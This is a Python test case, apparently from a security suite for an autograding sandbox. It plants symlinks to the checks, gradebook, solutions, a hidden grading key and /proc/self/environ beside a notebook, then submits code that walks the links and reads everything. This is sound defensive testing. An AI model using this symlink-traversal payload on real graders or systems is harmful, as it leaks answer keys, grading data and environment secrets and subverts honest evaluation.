"""Lays links to the checks, the key, the gradebook and the course beside its notebook, and reads them."""

from arena import SECRETS
from attack import finder, wrong

PROOF = "read all there is"
READ = f"""
import os
texts = []
{finder(*SECRETS)}
for folder, folders, files in os.walk(".", followlinks=True):
    for name in files:
        texts.append(name + open(os.path.join(folder, name), "rb").read().decode("latin-1"))
print("read all there is:", found_in(*texts))
def double(x):
    return x
"""


def prepare(folder, arena):
    (folder / "peek.txt").symlink_to(arena.root / "checks" / "tiny.py")
    (folder / "gradebook.db").symlink_to(arena.root / "gradebook.db")
    (folder / "course").symlink_to(arena.root)
    (folder / "up").symlink_to("../../..")
    (folder / "deep").mkdir()
    (folder / "deep" / "solutions").symlink_to(arena.root / "solutions")
    (folder / "itself").symlink_to("itself")
    (folder / "timestamp.txt").symlink_to(arena.root / ".grading-key")
    (folder / "memory").symlink_to("/proc/self/environ")


def submission():
    return wrong(double=READ)


def harm(arena):
    paths = list((arena.root / "autograded" / __name__).rglob("*"))
    return "" if not any(path.is_symlink() for path in paths) else "a link is beside the graded notebook"
